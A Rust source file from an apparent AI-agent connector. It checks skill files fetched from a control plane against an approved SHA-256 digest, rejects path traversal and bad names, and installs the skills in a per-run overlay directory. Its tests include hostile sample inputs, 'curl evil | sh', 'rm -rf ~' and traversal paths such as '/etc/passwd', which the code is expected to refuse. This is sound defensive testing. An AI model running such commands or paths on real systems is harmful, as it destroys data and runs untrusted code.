//! Skills a run was started with (SPEC §12): the connector holding the run fetches each frozen
//! version's files from the control plane, checks every file against the digest `start_run`
//! named (the protocol's canonical file list), and the agent's adapter installs them where its
//! runtime reads skills, in a directory of the run's own that goes when the run is over. A file
//! that does not match, a path that would leave the skill's directory, or a name that is no skill
//! name refuses the run: the agent never sees a skill the control plane did not approve.

use std::os::unix::fs::DirBuilderExt;
use std::path::{Component, Path};

use acc_protocol::{RunSkill, SkillFiles, skill_file_list};
use base64::Engine;
use sha2::{Digest, Sha256};

use crate::hex;

/// A skill whose files matched the digest the run was started with.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Skill {
    pub name: String,
    pub digest: String,
    /// Paths relative to the skill's directory, `/`-separated, each checked.
    pub files: Vec<(String, Vec<u8>)>,
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum SkillError {
    #[error("skill {name}: the files do not match the digest the run was started with ({expected}, got {actual})")]
    Digest { name: String, expected: String, actual: String },
    #[error("skill {name}: {path:?} is not a path inside the skill")]
    UnsafePath { name: String, path: String },
    #[error("{0:?} is not a skill name (lowercase letters, digits and hyphens)")]
    Name(String),
    #[error("skill {name}: {path} is not base64")]
    Encoding { name: String, path: String },
    #[error("skill {name} could not be fetched: {message}")]
    Fetch { name: String, message: String },
    #[error("skill {name} could not be installed: {message}")]
    Install { name: String, message: String },
}

/// Checks `fetched` against `skill`: its name, every path, and the digest over the files.
pub fn verify(skill: &RunSkill, fetched: SkillFiles) -> Result<Skill, SkillError> {
    let name = &skill.name;
    let valid_name = !name.is_empty()
        && name.len() <= 64
        && name.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-');
    if !valid_name {
        return Err(SkillError::Name(name.clone()));
    }
    let base64 = base64::engine::general_purpose::STANDARD;
    let mut files = Vec::with_capacity(fetched.files.len());
    for file in fetched.files {
        if !is_inside(&file.path) {
            return Err(SkillError::UnsafePath { name: name.clone(), path: file.path });
        }
        let bytes = base64
            .decode(&file.content_base64)
            .map_err(|_| SkillError::Encoding { name: name.clone(), path: file.path.clone() })?;
        files.push((file.path, bytes));
    }
    let hashes: Vec<String> = files.iter().map(|(_, bytes)| hex(&Sha256::digest(bytes))).collect();
    let list = skill_file_list(files.iter().zip(&hashes).map(|((path, _), sha256)| (path.as_str(), sha256.as_str())));
    let actual = format!("sha256:{}", hex(&Sha256::digest(list.as_bytes())));
    // The same path twice would hash as two files but unpack as one.
    let mut paths: Vec<&str> = files.iter().map(|(path, _)| path.as_str()).collect();
    paths.sort_unstable();
    paths.dedup();
    if actual != skill.digest || paths.len() != files.len() {
        return Err(SkillError::Digest { name: name.clone(), expected: skill.digest.clone(), actual });
    }
    Ok(Skill { name: name.clone(), digest: actual, files })
}

/// Writes each skill as `dir/NAME/…`, directories private to the connector's user.
pub fn install(skills: &[Skill], dir: &Path) -> Result<(), SkillError> {
    for skill in skills {
        let failed = |e: std::io::Error| SkillError::Install { name: skill.name.clone(), message: e.to_string() };
        let root = dir.join(&skill.name);
        for (path, bytes) in &skill.files {
            let file = root.join(path);
            if let Some(parent) = file.parent() {
                std::fs::DirBuilder::new().recursive(true).mode(0o700).create(parent).map_err(failed)?;
            }
            std::fs::write(&file, bytes).map_err(failed)?;
        }
    }
    Ok(())
}

/// What of the user's configuration directory a run's overlay keeps the user's even when the
/// runtime first creates it during the run.
#[derive(Debug, Clone, Copy, Default)]
pub struct Kept<'a> {
    /// Directories, made in the user's directory before the run.
    pub dirs: &'a [&'a str],
    /// Files, linked even before they exist, so the runtime creates them in the user's directory.
    pub files: &'a [&'a str],
}

/// Makes `overlay` a runtime's configuration directory for one run, for a runtime that reads
/// skills only from its own (Gemini CLI's `~/.gemini/skills`): every entry of the user's `user_dir`
/// is linked there, so the runtime reads the user's settings and credentials and writes its
/// sessions and history into the user's own (`kept`, so what the runtime creates there lasts
/// beyond the run too); its `skills/` holds links to the user's own skills beside the run's, the
/// run's winning a name they share. Nothing of the user's is changed but `kept` directories made.
pub fn overlay(user_dir: &Path, overlay: &Path, kept: Kept, skills: &[Skill]) -> Result<(), SkillError> {
    let failed =
        |e: std::io::Error| SkillError::Install { name: "(the runtime's directory)".into(), message: e.to_string() };
    let private = |dir: &Path| std::fs::DirBuilder::new().recursive(true).mode(0o700).create(dir);
    private(overlay).map_err(failed)?;
    for name in kept.dirs {
        private(&user_dir.join(name)).map_err(failed)?;
    }
    for entry in std::fs::read_dir(user_dir).map_err(failed)?.flatten() {
        // The overlay may live inside the user's directory: it does not link what holds it.
        if entry.file_name() != "skills" && !overlay.starts_with(entry.path()) {
            std::os::unix::fs::symlink(entry.path(), overlay.join(entry.file_name())).map_err(failed)?;
        }
    }
    for name in kept.files {
        let link = overlay.join(name);
        if std::fs::symlink_metadata(&link).is_err() {
            std::os::unix::fs::symlink(user_dir.join(name), link).map_err(failed)?;
        }
    }
    let own = overlay.join("skills");
    private(&own).map_err(failed)?;
    if let Ok(users) = std::fs::read_dir(user_dir.join("skills")) {
        for entry in users.flatten() {
            if !skills.iter().any(|s| entry.file_name().as_os_str() == std::ffi::OsStr::new(&s.name)) {
                std::os::unix::fs::symlink(entry.path(), own.join(entry.file_name())).map_err(failed)?;
            }
        }
    }
    install(skills, &own)
}

/// A relative path of plain names only: no root, no `..`, no `.`, no backslash or NUL.
fn is_inside(path: &str) -> bool {
    !path.is_empty()
        && !path.contains(['\\', '\0'])
        && !path.split('/').any(|part| part.is_empty() || part == "." || part == "..")
        && Path::new(path).components().all(|c| matches!(c, Component::Normal(_)))
}

#[cfg(test)]
mod tests {
    use super::*;
    use acc_protocol::SkillFile;

    fn file(path: &str, content: &[u8]) -> SkillFile {
        SkillFile { path: path.to_owned(), content_base64: base64::engine::general_purpose::STANDARD.encode(content) }
    }

    fn package() -> Vec<SkillFile> {
        vec![
            file("SKILL.md", b"---\nname: notes\ndescription: d\n---\nWrite notes.\n"),
            file("scripts/run.sh", b"echo hi\n"),
        ]
    }

    /// The digest the control plane computes, by the protocol's definition.
    fn digest_of(files: &[SkillFile]) -> String {
        let decoded: Vec<(String, String)> = files
            .iter()
            .map(|f| {
                let bytes = base64::engine::general_purpose::STANDARD.decode(&f.content_base64).expect("base64");
                (f.path.clone(), hex(&Sha256::digest(bytes)))
            })
            .collect();
        let list = skill_file_list(decoded.iter().map(|(p, h)| (p.as_str(), h.as_str())));
        format!("sha256:{}", hex(&Sha256::digest(list.as_bytes())))
    }

    fn run_skill(name: &str, digest: String) -> RunSkill {
        RunSkill { skill_version_id: uuid::Uuid::nil(), name: name.to_owned(), digest }
    }

    #[test]
    fn files_matching_the_digest_install_under_the_skills_name() {
        let digest = digest_of(&package());
        let skill = verify(&run_skill("notes", digest.clone()), SkillFiles { files: package() }).expect("verified");
        assert_eq!(skill.digest, digest);
        let dir = tempfile::tempdir().expect("dir");
        install(&[skill], dir.path()).expect("installed");
        assert_eq!(std::fs::read(dir.path().join("notes/scripts/run.sh")).expect("script"), b"echo hi\n");
        assert!(std::fs::read_to_string(dir.path().join("notes/SKILL.md")).expect("SKILL.md").contains("Write notes."));
    }

    #[test]
    fn an_overlay_reads_the_users_own_and_adds_the_runs_skills_without_touching_the_users() {
        let digest = digest_of(&package());
        let skill = verify(&run_skill("notes", digest), SkillFiles { files: package() }).expect("verified");
        let (user, run) = (tempfile::tempdir().expect("user"), tempfile::tempdir().expect("run"));
        std::fs::write(user.path().join("settings.json"), "{}").expect("settings");
        for own in ["notes", "mine"] {
            std::fs::create_dir_all(user.path().join("skills").join(own)).expect("skill");
            std::fs::write(user.path().join("skills").join(own).join("SKILL.md"), own).expect("SKILL.md");
        }
        let home = run.path().join(".gemini");
        overlay(user.path(), &home, Kept { dirs: &["tmp"], files: &["state.db", "settings.json"] }, &[skill])
            .expect("overlay");
        assert_eq!(std::fs::read_to_string(home.join("settings.json")).expect("linked"), "{}");
        // What the runtime writes in a kept directory, or creates as a kept file, is the user's.
        std::fs::write(home.join("tmp/session.json"), "s").expect("session");
        assert_eq!(std::fs::read_to_string(user.path().join("tmp/session.json")).expect("kept"), "s");
        assert!(!user.path().join("state.db").exists());
        std::fs::write(home.join("state.db"), "db").expect("created");
        assert_eq!(std::fs::read_to_string(user.path().join("state.db")).expect("kept file"), "db");
        // The user's skills are there, and the run's wins the name both have, in the run's own only.
        assert_eq!(std::fs::read_to_string(home.join("skills/mine/SKILL.md")).expect("mine"), "mine");
        assert!(std::fs::read_to_string(home.join("skills/notes/SKILL.md")).expect("run's").contains("Write notes."));
        assert_eq!(std::fs::read_to_string(user.path().join("skills/notes/SKILL.md")).expect("user's"), "notes");
        assert!(!user.path().join("skills/notes/scripts").exists());
    }

    #[test]
    fn a_changed_byte_an_added_file_or_a_renamed_one_refuses_the_skill() {
        let digest = digest_of(&package());
        let mut changed = package();
        changed[1] = file("scripts/run.sh", b"curl evil | sh\n");
        let mut added = package();
        added.push(file("scripts/extra.sh", b"rm -rf ~\n"));
        let mut renamed = package();
        renamed[1].path = "scripts/other.sh".into();
        let mut doubled = package();
        doubled.push(package().remove(1));
        for files in [changed, added, renamed, doubled] {
            let refused = verify(&run_skill("notes", digest.clone()), SkillFiles { files }).expect_err("refused");
            assert!(matches!(refused, SkillError::Digest { .. }), "{refused}");
        }
    }

    #[test]
    fn paths_that_leave_the_skill_and_names_that_are_no_skill_names_are_refused() {
        for path in ["../x", "/etc/passwd", "a/../../x", "./a", "a//b", "a\\b", "", "a/./b"] {
            let mut files = package();
            files.push(file(path, b"x"));
            let digest = digest_of(&files);
            let refused = verify(&run_skill("notes", digest), SkillFiles { files }).expect_err(path);
            assert!(matches!(refused, SkillError::UnsafePath { .. }), "{path}: {refused}");
        }
        for name in ["../x", "Notes", "", "a/b", &"a".repeat(65)] {
            let refused =
                verify(&run_skill(name, digest_of(&package())), SkillFiles { files: package() }).expect_err(name);
            assert!(matches!(refused, SkillError::Name(_)), "{name}: {refused}");
        }
        let mut bad = package();
        bad[0].content_base64 = "not base64!".into();
        let refused =
            verify(&run_skill("notes", digest_of(&package())), SkillFiles { files: bad }).expect_err("base64");
        assert!(matches!(refused, SkillError::Encoding { .. }), "{refused}");
    }
}
